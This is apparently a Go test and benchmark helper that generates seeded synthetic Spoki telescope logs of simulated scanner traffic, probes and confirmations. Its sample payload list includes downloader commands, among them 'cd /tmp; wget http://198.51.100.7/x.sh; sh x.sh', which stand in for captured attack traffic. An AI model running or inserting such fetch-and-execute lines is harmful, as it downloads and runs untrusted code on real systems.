package assemble

// A seeded generator of synthetic Spoki logs for the benchmark and the
// tests. It mixes the row kinds of the example logs: regular and irregular
// SYNs answered with SYN-ACKs, the telescope host's own SYN-ACKs and RSTs,
// scanners' RSTs, handshake ACKs and data segments answered with RST probes,
// retransmitted SYNs, probes whose confirmation never arrives, and complete
// two-phase sequences (irregular SYN, regular SYN, ACK with a downloader
// payload).

import (
	"bufio"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"time"

	"github.com/spoki-telescope/spoki/records"
)

// GenConfig describes a synthetic log.
type GenConfig struct {
	// Dir receives the files; Tag names them.
	Dir, Tag string
	// Start is the first hour; Hours how many hourly files of each type.
	Start time.Time
	Hours int
	// RowsPerHour is the approximate number of raw rows per hour.
	RowsPerHour int
	// Seed makes the output reproducible.
	Seed uint64
}

// genRow is one raw row; probed rows carry their confirmation's time.
// opts holds TCP option kinds in wire order, as records.Packet does.
type genRow struct {
	ms                   int64
	src, dst             netip.Addr
	ipid                 uint16
	ttl                  uint8
	sport, dport         uint16
	anum, snum           uint32
	opts                 []uint8
	payload              []byte
	syn, ack, rst        bool
	probed               bool
	method               records.Method
	userid, panum, psnum uint32
	nprobes              int
	conf                 bool
	confUs               int64
}

// Generate writes cfg.Hours hourly raw and scamper files and returns the
// number of raw rows written.
func Generate(cfg GenConfig) (int, error) {
	g := &generator{cfg: cfg, rng: rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0x5b0)), userid: 134217729}
	start := cfg.Start.UTC().Truncate(time.Hour)
	var carry []genRow // confirmations that fall into a later hour
	total := 0
	for h := 0; h < cfg.Hours; h++ {
		hour := start.Add(time.Duration(h) * time.Hour)
		rows := g.hour(hour)
		total += len(rows)
		// Confirmations go to the file of their own hour.
		end := hour.Add(time.Hour).UnixMicro()
		cons := carry
		carry = nil
		for _, r := range rows {
			if r.conf {
				if r.confUs < end {
					cons = append(cons, r)
				} else {
					carry = append(carry, r)
				}
			}
		}
		slices.SortStableFunc(cons, func(a, b genRow) int { return int(a.confUs - b.confUs) })
		if err := writeRows(filepath.Join(cfg.Dir, fileName(hour, cfg.Tag, "raw")), records.RawHeader, rows, appendGenRaw); err != nil {
			return total, err
		}
		if err := writeRows(filepath.Join(cfg.Dir, fileName(hour, cfg.Tag, "scamper")), records.ReplyHeader, cons, appendGenCon); err != nil {
			return total, err
		}
	}
	return total, nil
}

type generator struct {
	cfg    GenConfig
	rng    *rand.Rand
	userid uint32
	rows   []genRow
}

// TCP option kinds (IANA), for genOpts.
const (
	genOptMSS       = 2
	genOptWScale    = 3
	genOptSACKPerm  = 4
	genOptTimestamp = 8
)

var (
	genHost  = netip.MustParseAddr("141.22.28.17")
	genPorts = []uint16{22, 23, 80, 443, 445, 2323, 3389, 5555, 8080, 8443, 37215, 52869}
	// genOpts are option lists in wire order; the raw log names them in
	// reverse: "sack_permitted:window_scale:mss",
	// "window_scale:timestamp:sack_permitted:mss", "mss", "timestamp".
	genOpts = [][]uint8{
		{genOptMSS, genOptWScale, genOptSACKPerm},
		{genOptMSS, genOptSACKPerm, genOptTimestamp, genOptWScale},
		{genOptMSS},
		{genOptTimestamp},
	}
	genPayloads = [][]byte{
		[]byte("wget http://141.22.28.35/evil"),
		[]byte("GET / HTTP/1.1\r\nHost: 141.22.28.17\r\n\r\n"),
		[]byte("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"),
		{0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03},
	}
)

func (g *generator) addr() netip.Addr {
	// A pool of 65536 scanners keeps the keys realistic: most repeat.
	n := g.rng.Uint32() & 0xffff
	return netip.AddrFrom4([4]byte{byte(45 + n>>12), byte(n >> 8), byte(n), byte(1 + g.rng.IntN(250))})
}

func (g *generator) dst() netip.Addr {
	return netip.AddrFrom4([4]byte{141, 22, 28, byte(1 + g.rng.IntN(254))})
}

// probe marks r as answered with method and gives it a confirmation after
// a short delay, or none (1 %).
func (g *generator) probe(r *genRow, method records.Method, panum, psnum uint32, n int) {
	r.probed, r.method, r.userid, r.panum, r.psnum, r.nprobes = true, method, g.userid, panum, psnum, n
	g.userid++
	if g.rng.IntN(100) != 0 {
		r.conf = true
		r.confUs = r.ms*1000 + int64(g.rng.IntN(5_000_000))
	}
}

func (g *generator) hour(hour time.Time) []genRow {
	g.rows = g.rows[:0]
	base := hour.UnixMilli()
	n := g.cfg.RowsPerHour
	step := float64(3_600_000) / float64(max(n, 1))
	for i := 0; len(g.rows) < n; i++ {
		ms := base + int64(float64(len(g.rows))*step)
		g.flow(ms)
	}
	rows := g.rows
	slices.SortStableFunc(rows, func(a, b genRow) int { return int(a.ms - b.ms) })
	// Rows spilled past the hour belong to it anyway: Spoki files by the
	// time a packet was read, which the generator keeps inside the hour.
	end := base + 3_600_000 - 1
	for i := range rows {
		rows[i].ms = min(rows[i].ms, end)
	}
	return slices.Clone(rows)
}

// flow appends the rows of one interaction starting at ms. The weights
// give about the example logs' mix: 40 % RSTs (mostly the host's own),
// 40 % probed ACKs (half with payload), 10 % SYN-ACKs, 9 % SYNs, and about
// one output record per 12 rows.
func (g *generator) flow(ms int64) {
	src, dst := g.addr(), g.dst()
	dport := genPorts[g.rng.IntN(len(genPorts))]
	sport := uint16(1024 + g.rng.IntN(60000))
	seq := g.rng.Uint32()
	switch k := g.rng.IntN(100); {
	case k < 40: // regular SYN, answered; the scanner resets (masscan style)
		syn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 50, sport: sport, dport: dport,
			snum: seq, opts: genOpts[g.rng.IntN(len(genOpts))], syn: true}
		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
		g.rows = append(g.rows, syn, g.synack(syn, ms))
		if g.rng.IntN(3) == 0 {
			g.rows = append(g.rows, genRow{ms: ms + 30, src: src, dst: dst, sport: sport, dport: dport, snum: seq + 1, rst: true, ttl: 50})
		}
		if g.rng.IntN(10) == 0 { // retransmitted SYN
			re := syn
			re.ms += 1000
			re.conf, re.probed = false, false
			g.rows = append(g.rows, re)
		}
	case k < 50: // irregular SYN (zmap-like), answered, reset by the host
		syn := genRow{ms: ms, src: src, dst: dst, ipid: 54321, ttl: 240, sport: sport, dport: dport, snum: seq, syn: true}
		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
		g.rows = append(g.rows, syn, g.synack(syn, ms), g.hostRST(syn, ms+2))
	case k < 65: // complete handshake with data, answered with a RST probe
		syn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport, dport: dport,
			snum: seq, opts: genOpts[0], syn: true}
		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
		isn := g.rng.Uint32()
		ack := genRow{ms: ms + 40, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport, dport: dport,
			snum: seq + 1, anum: isn + 1, ack: true, payload: genPayloads[g.rng.IntN(len(genPayloads))]}
		g.probe(&ack, records.MethodRST, 0, isn+1, 2)
		g.rows = append(g.rows, syn, g.synack(syn, ms), ack, g.hostRST(ack, ms+41), g.hostRST(ack, ms+1041))
	case k < 75: // two-phase: irregular SYN, then a regular SYN and an ACK with data
		isyn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 222, sport: sport, dport: dport,
			snum: seq, opts: genOpts[2], syn: true}
		g.probe(&isyn, records.MethodSYNACK, seq+1, 0, 1)
		t2 := ms + int64(g.rng.IntN(5000))
		sport2, seq2, isn := uint16(1024+g.rng.IntN(60000)), g.rng.Uint32(), g.rng.Uint32()
		rsyn := genRow{ms: t2, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport2, dport: dport,
			snum: seq2, opts: genOpts[1], syn: true}
		g.probe(&rsyn, records.MethodSYNACK, seq2+1, 0, 1)
		ack := genRow{ms: t2 + 40, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport2, dport: dport,
			snum: seq2 + 1, anum: isn + 1, ack: true, payload: genPayloads[0]}
		g.probe(&ack, records.MethodRST, 0, isn+1, 2)
		g.rows = append(g.rows, isyn, g.synack(isyn, ms), rsyn, g.synack(rsyn, t2), ack, g.hostRST(ack, t2+41), g.hostRST(ack, t2+1041))
	default: // a session: data both ways, each segment answered with a RST probe
		hseq := g.rng.Uint32()
		for step, n := 0, 6+g.rng.IntN(7); step < n; step++ {
			t := ms + int64(step)*700
			seg := genRow{ms: t, src: src, dst: genHost, ipid: 0, ttl: 55, sport: sport, dport: 22, snum: seq, anum: hseq,
				opts: genOpts[3], ack: true, payload: genPayloads[3]}
			if g.rng.IntN(2) == 0 { // the host's side of the session
				seg.src, seg.dst, seg.sport, seg.dport, seg.snum, seg.anum, seg.ttl = genHost, src, 22, sport, hseq, seq, 64
			}
			g.probe(&seg, records.MethodRST, 0, seg.anum, 2)
			g.rows = append(g.rows, seg, g.hostRST(seg, t+1), g.hostRST(seg, t+500))
			if g.rng.IntN(2) == 0 {
				bare := seg
				bare.ms, bare.payload, bare.snum = t+200, nil, seg.snum+36
				g.probe(&bare, records.MethodRST, 0, bare.anum, 2)
				g.rows = append(g.rows, bare)
			}
			seq, hseq = seq+36, hseq+36
		}
	}
}

// hostRST is the telescope host's kernel reset towards the sender of r.
func (g *generator) hostRST(r genRow, ms int64) genRow {
	return genRow{ms: ms, src: genHost, dst: r.src, ipid: uint16(g.rng.Uint32()), ttl: 64, sport: r.dport,
		dport: r.sport, snum: r.anum, rst: true}
}

// synack is the telescope's own SYN-ACK, which the raw log also holds.
func (g *generator) synack(syn genRow, ms int64) genRow {
	return genRow{ms: ms + 1, src: syn.dst, dst: syn.src, ipid: uint16(g.rng.Uint32()), ttl: 64, sport: syn.dport,
		dport: syn.sport, snum: g.rng.Uint32(), anum: syn.snum + 1, syn: true, ack: true}
}

func writeRows(path, header string, rows []genRow, appendRow func([]byte, *genRow) []byte) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("assemble: generate: %w", err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	w.WriteString(header + "\n")
	var buf []byte
	for i := range rows {
		buf = appendRow(buf[:0], &rows[i])
		w.Write(buf)
	}
	if err := w.Flush(); err != nil {
		f.Close()
		return fmt.Errorf("assemble: generate: %w", err)
	}
	return f.Close()
}

// appendGenRaw writes r in the raw-log format (records.RawHeader).
func appendGenRaw(dst []byte, r *genRow) []byte {
	p := records.Packet{
		Time: time.UnixMilli(r.ms), Src: r.src, Dst: r.dst, IPID: r.ipid, TTL: r.ttl,
		Proto: records.ProtoTCP, SrcPort: r.sport, DstPort: r.dport, Seq: r.snum, Ack: r.anum,
		Window: 8192, Payload: r.payload,
		Probed: r.probed, Method: r.method, UserID: r.userid, ProbeAck: r.panum, ProbeSeq: r.psnum,
		NumProbes: uint8(r.nprobes),
	}
	p.NumOptions = uint8(copy(p.Options[:], r.opts))
	if r.syn {
		p.Flags |= records.FlagSYN
	}
	if r.ack {
		p.Flags |= records.FlagACK
	}
	if r.rst {
		p.Flags |= records.FlagRST
	}
	return records.AppendRawRow(dst, &p)
}

// appendGenCon writes r's confirmation in the scamper-log format
// (records.ReplyHeader): the reply goes from r's destination to its source.
func appendGenCon(dst []byte, r *genRow) []byte {
	return records.AppendReplyRow(dst, &records.Reply{
		Time: time.UnixMicro(r.confUs), Method: r.method, UserID: r.userid, NumProbes: uint8(r.nprobes),
		Src: r.dst, Dst: r.src, SrcPort: r.dport, DstPort: r.sport,
	})
}
